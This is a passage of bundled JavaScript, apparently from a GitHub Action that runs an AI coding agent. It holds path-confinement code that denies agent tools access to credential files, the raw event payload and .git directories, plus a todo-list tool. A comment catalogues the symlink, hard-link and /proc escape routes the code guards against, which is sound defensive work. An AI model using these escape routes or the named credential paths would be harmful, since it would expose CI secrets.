            add(external_node_path_default().dirname(file), `the runner's file-command directory (${name})`);
        }
    }
    add(env.GITHUB_EVENT_PATH, 'the raw event payload (GITHUB_EVENT_PATH)');
    // google-github-actions/auth may write the credentials file inside the checkout, and points
    // these three variables at it; with Workload Identity Federation it holds the job's OIDC
    // request token.
    add(env.GOOGLE_APPLICATION_CREDENTIALS, 'the Google Cloud credentials file (GOOGLE_APPLICATION_CREDENTIALS)');
    add(env.CLOUDSDK_AUTH_CREDENTIAL_FILE_OVERRIDE, 'the gcloud credentials file');
    add(env.GOOGLE_GHA_CREDS_PATH, 'the Google Cloud credentials file (GOOGLE_GHA_CREDS_PATH)');
    return denied;
}
/** Denied places prepared for fast checks of real paths. */
class DeniedLocations {
    locations;
    constructor(locations) {
        this.locations = locations;
    }
    /**
     * Resolves each entry's symlinks, so a denied place reached under another name (`/tmp` and
     * `/private/tmp` on macOS) is still recognised.
     */
    static prepare(entries) {
        const locations = [];
        for (const given of [...SYSTEM_DENIED_PATHS, ...entries]) {
            const entry = typeof given === 'string' ? { path: given, reason: 'denied location' } : given;
            const absolute = external_node_path_default().resolve(entry.path);
            const spellings = [absolute];
            try {
                spellings.push(resolveRealPath(absolute).realPath);
            }
            catch {
                // An unresolvable denied path is still denied under the name it was given.
            }
            locations.push({ entry, folded: [...new Set(spellings.map(path_spelling/* foldName */.zN))] });
        }
        return new DeniedLocations(locations);
    }
    /**
     * The locations that apply inside `root`. One that contains the root itself is dropped: denying
     * it would deny the whole workspace the user chose (a workspace on a RAM disk under `/dev/shm`,
     * or checked out inside `RUNNER_TEMP`), while everything of it outside the root stays out of
     * reach anyway.
     */
    forRoot(root) {
        const folded = (0,path_spelling/* foldName */.zN)(root);
        return new DeniedLocations(this.locations.filter((location) => !location.folded.some((d) => isWithin(folded, d))));
    }
    /** The first denied location any of `paths` lies in (folded comparison), if any. */
    find(paths) {
        for (const candidate of paths) {
            const folded = (0,path_spelling/* foldName */.zN)(candidate);
            const hit = this.locations.find((location) => location.folded.some((denied) => isWithin(folded, denied)));
            if (hit)
                return hit.entry;
        }
        return undefined;
    }
}
function isWithin(candidate, root) {
    if (candidate === root)
        return true;
    const prefix = root.endsWith((external_node_path_default()).sep) ? root : root + (external_node_path_default()).sep;
    return candidate.startsWith(prefix);
}

// EXTERNAL MODULE: ./node_modules/ignore/index.js
var ignore = __webpack_require__(70298);
var ignore_default = /*#__PURE__*/__webpack_require__.n(ignore);
;// CONCATENATED MODULE: ./src/tools/ignore-rules.ts
/**
 * `.gitignore` / `.geminiignore` rules of a workspace root, read lazily and cached per filter.
 */




class IgnoreRules {
    root;
    options;
    nested = new Map();
    rootLevels;
    geminiLevel;
    constructor(root, options) {
        this.root = root;
        this.options = options;
    }
    isIgnored(relativePath, options = {}) {
        const normalized = relativePath.split((external_node_path_default()).sep).join('/');
        const isDirectory = options.isDirectory === true || normalized.endsWith('/');
        const segments = normalized.split('/').filter((part) => part !== '' && part !== '.');
        if (segments.length === 0 || segments.includes('..'))
            return false;
        if (segments.some(path_spelling/* isGitName */.M$))
            return true;
        // Git never looks inside an excluded directory, so a rule deeper down cannot bring a path back.
        for (let depth = 1; depth <= segments.length; depth += 1) {
            const last = depth === segments.length;
            const candidate = segments.slice(0, depth).join('/') + (!last || isDirectory ? '/' : '');
            if (this.decide(candidate, segments.slice(0, depth - 1)))
                return true;
        }
        return false;
    }
    /** Applies the levels from the lowest precedence to the highest; the last matching rule wins. */
    decide(candidate, parents) {
        let ignored = false;
        for (const level of this.levelsFor(parents)) {
            let result;
            try {
                result = level.rules.test(candidate.slice(level.base.length));
            }
            catch {
                // A name the rules cannot express (the library rejects it) matches no rule.
                continue;
            }
            if (result.ignored)
                ignored = true;
            else if (result.unignored)
                ignored = false;
        }
        return ignored;
    }
    levelsFor(parents) {
        const levels = [];
        if (this.options.respectGitIgnore) {
            levels.push(...this.rootGitLevels());
            for (let depth = 1; depth <= parents.length; depth += 1) {
                const base = `${parents.slice(0, depth).join('/')}/`;
                const level = this.nestedLevel(base);
                if (level)
                    levels.push(level);
            }
        }
        if (this.options.respectGeminiIgnore) {
            this.geminiLevel ??= this.load('.geminiignore', '');
            if (this.geminiLevel)
                levels.push(this.geminiLevel);
        }
        return levels;
    }
    rootGitLevels() {
        this.rootLevels ??= [this.load('.git/info/exclude', ''), this.load('.gitignore', '')].filter((level) => level !== null);
        return this.rootLevels;
    }
    nestedLevel(base) {
        let level = this.nested.get(base);
        if (level === undefined) {
            level = this.load(`${base}.gitignore`, base);
            this.nested.set(base, level);
        }
        return level;
    }
    load(file, base) {
        const absolute = external_node_path_default().join(this.root, file);
        let text;
        try {
            // Only regular files: an ignore "file" that is a FIFO or a directory would hang or throw.
            if (!(0,external_node_fs_.statSync)(absolute).isFile())
                return null;
            text = (0,external_node_fs_.readFileSync)(absolute, 'utf8');
        }
        catch {
            return null;
        }
        return { base, rules: ignore_default()().add(text) };
    }
}

;// CONCATENATED MODULE: ./src/tools/verified-open.ts





const { O_RDONLY, O_WRONLY, O_RDWR, O_CREAT, O_EXCL, O_TRUNC, O_APPEND } = external_node_fs_.constants;
// Not every platform has these (Windows has neither); there the later checks still apply.
const platformFlags = external_node_fs_.constants;
const O_NOFOLLOW = platformFlags.O_NOFOLLOW ?? 0;
const O_NONBLOCK = platformFlags.O_NONBLOCK ?? 0;
const NAMED_FLAGS = {
    r: O_RDONLY,
    'r+': O_RDWR,
    w: O_WRONLY | O_CREAT | O_TRUNC,
    wx: O_WRONLY | O_CREAT | O_TRUNC | O_EXCL,
    'w+': O_RDWR | O_CREAT | O_TRUNC,
    'wx+': O_RDWR | O_CREAT | O_TRUNC | O_EXCL,
    a: O_WRONLY | O_CREAT | O_APPEND,
    ax: O_WRONLY | O_CREAT | O_APPEND | O_EXCL,
    'a+': O_RDWR | O_CREAT | O_APPEND,
    'ax+': O_RDWR | O_CREAT | O_APPEND | O_EXCL,
};
const WRITING = O_WRONLY | O_RDWR | O_CREAT | O_TRUNC | O_APPEND;
/** See the module comment; `Workspace.openVerified` is the usual way to call this. */
async function openVerified(workspace, requested, options, hooks = {}) {
    const { purpose } = options;
    const requestedFlags = flagsOf(options);
    if (purpose === 'read' && (requestedFlags & WRITING) !== 0) {
        throw new Error('openVerified: opening for writing needs purpose "write".');
    }
    const resolved = workspace.resolve(requested, { purpose });
    if (!resolved.ok) {
        return { ok: false, reason: 'not_in_workspace', message: resolved.error.message };
    }
    const file = resolved.absolutePath;
    const refused = (reason) => ({
        ok: false,
        reason: 'not_in_workspace',
        message: refusalMessage(file, reason),
    });
    const failed = (reason, message) => ({
        ok: false,
        reason,
        message,
        absolutePath: file,
    });
    const notRegular = () => failed('not_regular_file', `Path is not a regular file: ${file}`);
    // Looked at before opening too: opening a device can act on it, and a FIFO opened for writing
    // waits for a reader.
    try {
        if (isSpecialFile(await (0,promises_.lstat)(file)))
            return notRegular();
    }
    catch (error) {
        if (!(0,errors/* isMissingPathError */.Sr)(error))
            return failed('failed', (0,errors/* errorMessage */.gJ)(error));
    }
    await hooks.beforeOpen?.();
    let handle;
    try {
        // O_NONBLOCK: a FIFO swapped in after the look above opens at once instead of blocking, and
        // is then refused by type. Regular files and directories ignore the flag.
        const flags = (requestedFlags & ~O_TRUNC) | O_NOFOLLOW | O_NONBLOCK;
        handle = await (0,promises_.open)(file, flags, options.mode ?? 0o666);
    }
    catch (error) {
        switch (error.code) {
            case 'ENOENT':
            case 'ENOTDIR':
                return failed('not_found', `File not found: ${file}`);
            case 'EISDIR':
                return failed('is_directory', `Path is a directory, not a file: ${file}`);
            case 'ENXIO':
                // A FIFO without a reader, or a socket.
                return notRegular();
            case 'ELOOP':
            case 'EMLINK':
                // The last component became a symlink after the check (EMLINK on some BSDs).
                return refused(REFUSAL_REASONS.changed);
            default:
                return failed('failed', (0,errors/* errorMessage */.gJ)(error));
        }
    }
    try {
        const kernelName = await (hooks.kernelPath ?? procPath)(handle.fd);
        const problem = await verifyHandle(handle, { workspace, requested, file, purpose, kernelName });
        if (problem !== null) {
            await handle.close();
            return problem === 'special' ? notRegular() : refused(REFUSAL_REASONS[problem]);
        }
        let stats = await handle.stat();
        if ((requestedFlags & O_TRUNC) !== 0) {
            await handle.truncate(0);
            stats = await handle.stat();
        }
        return {
            ok: true,
            handle,
            stats,
            absolutePath: file,
            relativePath: resolved.relativePath,
            root: resolved.root,
            handlePath: kernelName === undefined ? file : `/proc/self/fd/${handle.fd}`,
        };
    }
    catch (error) {
        await handle.close().catch(() => undefined);
        return failed('failed', (0,errors/* errorMessage */.gJ)(error));
    }
}
/** Why the open handle is not the file that was checked, or `null` when it is. */
async function verifyHandle(handle, context) {
    const { workspace, requested, file, purpose, kernelName } = context;
    const stats = await handle.stat();
    if (isSpecialFile(stats))
        return 'special';
    if (!stats.isDirectory() && stats.nlink > 1)
        return 'hardLink';
    // The kernel's own name for what was opened: a directory on the way that was swapped for a
    // symlink shows up here as a path somewhere else, which must pass the same check.
    if (kernelName !== undefined && kernelName !== file) {
        const again = workspace.resolve(kernelName, { purpose });
        if (!again.ok || again.absolutePath !== kernelName)
            return 'changed';
    }
    // Where no kernel name is available this is the main check; elsewhere a second opinion. The
    // request must still lead to the same path, and that path to the same file.
    const again = workspace.resolve(requested, { purpose });
    if (!again.ok || again.absolutePath !== file)
        return 'changed';
    let now;
    try {
        now = await (0,promises_.lstat)(file);
    }
    catch {
        return 'changed';
    }
    if (now.dev !== stats.dev || now.ino !== stats.ino)
        return 'changed';
    return null;
}
function flagsOf(options) {
    const flags = options.flags ?? (options.purpose === 'write' ? 'w' : 'r');
    return typeof flags === 'number' ? flags : NAMED_FLAGS[flags];
}
/** The kernel's name for an open descriptor on Linux; `undefined` without `/proc`. */
async function procPath(fd) {
    try {
        return await (0,promises_.readlink)(`/proc/self/fd/${fd}`);
    }
    catch {
        return undefined;
    }
}

;// CONCATENATED MODULE: ./src/tools/workspace.ts
/**
 * The directories tools may touch, and the rule that keeps every path inside them.
 *
 * The model is assumed hostile: a path it sends may use `..`, an absolute path elsewhere, a
 * symlink (possibly dangling) that leads out, a hard link to a file elsewhere, a spelling of
 * `.git` that some file system folds, or a detour through `/proc`. Every tool resolves its paths
 * here and then works on the returned `absolutePath` only, so what was checked is what gets
 * opened; `openVerified` also closes the gap between that check and the open.
 */











class Workspace {
    /** The primary root (real path): relative paths resolve against it. */
    root;
    /** Every allowed root, the primary one first. */
    roots;
    rootEntries;
    constructor(roots, denied) {
        const [root] = roots;
        if (root === undefined)
            throw new Error('A workspace needs at least one root.');
        this.root = root;
        this.roots = roots;
        this.rootEntries = roots.map((dir) => ({ path: dir, denied: denied.forRoot(dir) }));
    }
    /** Resolves each root with realpath; every root must be an existing directory. */
    static async create(root, options = {}) {
        const roots = [];
        for (const dir of [root, ...(options.additionalRoots ?? [])]) {
            const real = await realDirectory(dir);
            if (!roots.includes(real))
                roots.push(real);
        }
        return new Workspace(roots, DeniedLocations.prepare(options.deniedPaths ?? []));
    }
    /**
     * Resolves a path the model sent: relative paths against the root, absolute paths only when
     * they end up inside a root after resolving symlinks (also dangling ones, whose target decides)
     * without passing through a denied place. Files with several names (hard links) are refused,
     * and so are writes into any `.git` (in any spelling) or git directory and to FIFOs, sockets
     * and devices.
     */
    resolve(requested, options) {
        // A path a command opens keeps its `..` for the kernel to apply after the symlink before it
        // (`link/../x` is the parent of the link's target); resolveRealPath does the same.
        const lexical = options.asOpened === true
            ? external_node_path_default().isAbsolute(requested)
                ? requested
                : `${this.root}${(external_node_path_default()).sep}${requested}`
            : external_node_path_default().resolve(this.root, requested);
        const refuse = (reason) => ({
            ok: false,
            error: { message: refusalMessage(lexical, reason), type: 'path_not_in_workspace' },
        });
        const outside = () => refuse(`resolves outside the allowed workspace directories: ${this.roots.join(', ')}`);
        const problem = (0,path_spelling/* pathTextProblem */.ik)(lexical);
        if (problem === 'nul_byte')
            return refuse(REFUSAL_REASONS.nulByte);
        if (problem === 'too_long')
            return refuse(REFUSAL_REASONS.tooLong);
        let resolution;
        try {
            resolution = resolveRealPath(lexical);
        }
        catch (error) {
            if (error instanceof PathTooLongError)
                return refuse(REFUSAL_REASONS.tooLong);
            // A symlink loop or an unsearchable directory: nothing we can vouch for.
            return outside();
        }
        const real = resolution.realPath;
        const root = this.rootEntries.find((candidate) => workspace_isWithin(real, candidate.path));
        if (root === undefined)
            return outside();
        const denied = root.denied.find([lexical, ...resolution.visited, real]);
        if (denied) {
            return refuse(`leads into "${denied.path}" (${denied.reason}), which tools may not use.`);
        }
        const { stats } = resolution;
        if (stats && !stats.isDirectory() && stats.nlink > 1)
            return refuse(REFUSAL_REASONS.hardLink);
        const relativePath = external_node_path_default().relative(root.path, real);
        if (options.purpose === 'write') {
            if (stats && isSpecialFile(stats))
                return refuse(REFUSAL_REASONS.specialFile);
            const lexicalRoot = this.roots.find((candidate) => workspace_isWithin(lexical, candidate));
            const lexicalRelative = lexicalRoot === undefined ? '' : external_node_path_default().relative(lexicalRoot, lexical);
            if ((0,path_spelling/* hasGitSegment */.oW)(relativePath) || (0,path_spelling/* hasGitSegment */.oW)(lexicalRelative)) {
                return refuse(REFUSAL_REASONS.gitDirectory);
            }
            const gitDirectory = enclosingGitDirectory(root.path, relativePath);
            if (gitDirectory !== undefined) {
                return refuse(`is inside a .git directory ("${gitDirectory}" holds a repository's HEAD, objects and refs), which tools may not write to.`);
            }
        }
        return { ok: true, absolutePath: real, relativePath, root: root.path };
    }
    /**
     * Resolves like `resolve`, opens the file without following a symlink in its last component,
     * and checks that the open handle is the file that was checked (see `verified-open.ts`). Tools
     * should read and write through the returned handle, and close it.
     */
    openVerified(requested, options) {
        return openVerified(this, requested, options);
    }
    /** A path for humans: relative to the primary root when inside it, absolute otherwise. */
    displayPath(absolutePath) {
        if (!workspace_isWithin(absolutePath, this.root))
            return absolutePath;
        const relative = external_node_path_default().relative(this.root, absolutePath);
        return relative === '' ? '.' : relative.split((external_node_path_default()).sep).join('/');
    }
    /**
     * The ignore rules of the primary root: `.gitignore` files (the root's, nested ones along each
     * path, and `.git/info/exclude`) and the root's `.geminiignore`. Files are read on first use and
     * cached by the returned filter only, so a new filter sees edits made since.
     */
    fileFilter(options) {
        return new IgnoreRules(this.root, options);
    }
}
async function realDirectory(dir) {
    let real;
    try {
        real = await (0,promises_.realpath)(dir);
    }
    catch (error) {
        throw new errors/* ConfigurationError */.j1(`The workspace directory "${dir}" does not exist or cannot be read (${(0,errors/* errorMessage */.gJ)(error)}). Expected an existing directory.`);
    }
    if (!(await (0,promises_.stat)(real)).isDirectory()) {
        throw new errors/* ConfigurationError */.j1(`The workspace directory "${dir}" is not a directory. Expected an existing directory.`);
    }
    return real;
}
function workspace_isWithin(candidate, root) {
    if (candidate === root)
        return true;
    const prefix = root.endsWith((external_node_path_default()).sep) ? root : root + (external_node_path_default()).sep;
    return candidate.startsWith(prefix);
}
/**
 * The first directory from `root` down to `root/relativePath` that git would take for a
 * repository's own directory (a bare repository, or where a submodule's or worktree's `.git`
 * file points): writing its `hooks/` or `config` would run code in the next git command there.
 */
function enclosingGitDirectory(root, relativePath) {
    let current = root;
    for (const segment of ['', ...relativePath.split((external_node_path_default()).sep).filter((part) => part !== '')]) {
        current = external_node_path_default().join(current, segment);
        if (looksLikeGitDirectory(current))
            return current;
    }
    return undefined;
}
function looksLikeGitDirectory(dir) {
    const kind = (name) => {
        try {
            const stats = (0,external_node_fs_.statSync)(external_node_path_default().join(dir, name));
            return stats.isDirectory() ? 'directory' : 'file';
        }
        catch {
            return 'missing';
        }
    };
    if (kind('HEAD') !== 'file')
        return false;
    if (kind('commondir') === 'file')
        return true;
    return kind('objects') === 'directory' && kind('refs') === 'directory';
}


/***/ }),

/***/ 57108:
/***/ ((__unused_webpack_module, __webpack_exports__, __webpack_require__) => {

/* harmony export */ __webpack_require__.d(__webpack_exports__, {
/* harmony export */   Z: () => (/* binding */ createWriteTodosTool),
/* harmony export */   b: () => (/* binding */ WRITE_TODOS_TOOL_NAME)
/* harmony export */ });
/* harmony import */ var zod__WEBPACK_IMPORTED_MODULE_0__ = __webpack_require__(41514);
/* harmony import */ var _define_tool_js__WEBPACK_IMPORTED_MODULE_1__ = __webpack_require__(96511);
/**
 * `write_todos`: the model keeps its plan as a todo list, replaced whole on every call. The list
 * is the call's display (`TodoListDisplay`), which the session reports as a `todo_update` event
 * for the progress comment. Result strings follow the Gemini CLI.
 */


const WRITE_TODOS_TOOL_NAME = 'write_todos';
const STATUSES = ['pending', 'in_progress', 'completed', 'cancelled'];
const parameters = zod__WEBPACK_IMPORTED_MODULE_0__/* .object */ .Ikc({
    todos: zod__WEBPACK_IMPORTED_MODULE_0__/* .array */ .YOg(zod__WEBPACK_IMPORTED_MODULE_0__/* .object */ .Ikc({
        description: zod__WEBPACK_IMPORTED_MODULE_0__/* .string */ .YjP().describe('The description of the task.'),
        status: zod__WEBPACK_IMPORTED_MODULE_0__/* ["enum"] */ .k5n(STATUSES).describe('The current status of the task.'),
    })
        .describe('A single todo item.'))
        .describe('The complete list of todo items. This will replace the existing list.'),
});
const DESCRIPTION = `This tool can help you list out the current subtasks that are required to be completed for a given user request. The list of subtasks helps you keep track of the current task, organize complex queries and help ensure that you don't miss any steps. With this list, the user can also see the current progress you are making in executing a given task.

Depending on the task complexity, you should first divide a given task into subtasks and then use this tool to list out the subtasks that are required to be completed for a given user request. Each of the subtasks should be clear and distinct.

Use this tool for complex queries that require multiple steps. If you find that the request is actually complex after you have started executing the user task, create a todo list and use it. If execution of the user task requires multiple steps, planning and generally is higher complexity than a simple Q&A, use this tool.

DO NOT use this tool for simple tasks that can be completed in less than 2 steps. If the user query is simple and straightforward, do not use the tool.

## Task state definitions

- pending: Work has not begun on a given subtask.
- in_progress: Marked just prior to beginning work on a given subtask. You should only have one subtask as in_progress at a time.
- completed: Subtask was successfully completed with no errors or issues. All steps should be identified as completed only when they are completed.
- cancelled: As you update the todo list, some tasks are not required anymore due to the dynamic nature of the task. In this case, mark the subtasks as cancelled.

## Methodology for using this tool
1. Use this todo list as soon as you receive a user request based on the complexity of the task.
2. Keep track of every subtask that you update the list with.
3. Mark a subtask as in_progress before you begin working on it. You should only have one subtask as in_progress at a time.
4. Update the subtask list as you proceed in executing the task. The subtask list is not static and should reflect your progress and current plans, which may evolve as you acquire new information.
5. Mark a subtask as completed when you have completed it.
6. Mark a subtask as cancelled if the subtask is no longer needed.
7. You must update the todo list as soon as you start, stop or cancel a subtask. Don't batch or wait to update the todo list.`;
function createWriteTodosTool() {
    return (0,_define_tool_js__WEBPACK_IMPORTED_MODULE_1__/* .defineTool */ .u)({
        name: WRITE_TODOS_TOOL_NAME,
        displayName: 'WriteTodos',
        description: DESCRIPTION,
        kind: 'other',
        parameters,
        validate({ todos }) {
            if (todos.some((todo) => todo.description.trim() === '')) {
                return {
                    message: 'Each todo must have a non-empty description string',
                    type: 'invalid_tool_params',
                };
            }
            if (todos.filter((todo) => todo.status === 'in_progress').length > 1) {
                return {
                    message: 'Invalid parameters: Only one task can be "in_progress" at a time.',
                    type: 'invalid_tool_params',
                };
            }
            return null;
        },
        invocation({ todos }) {
            const description = todos.length === 0 ? 'Cleared todo list' : `Set ${todos.length} todo(s)`;
            return {
                describe: () => description,
                locations: () => [],
                confirmationDetails: () => Promise.resolve({
                    type: 'info',
                    title: 'Confirm Todo List Update',
                    prompt: todos.length === 0
                        ? description
                        : todos.map((todo) => `[${todo.status}] ${todo.description}`).join('\n'),
                }),
                execute: () => {
                    const list = todos.map((todo, i) => `${i + 1}. [${todo.status}] ${todo.description}`);
                    const llmContent = todos.length > 0
                        ? `Successfully updated the todo list. The current list is now:\n${list.join('\n')}`
                        : 'Successfully cleared the todo list.';
                    const display = {
                        todos: todos.map(({ description: text, status }) => ({ description: text, status })),
                    };
                    return Promise.resolve({ llmContent, returnDisplay: display });
                },
            };
        },
    });
}


/***/ })

};
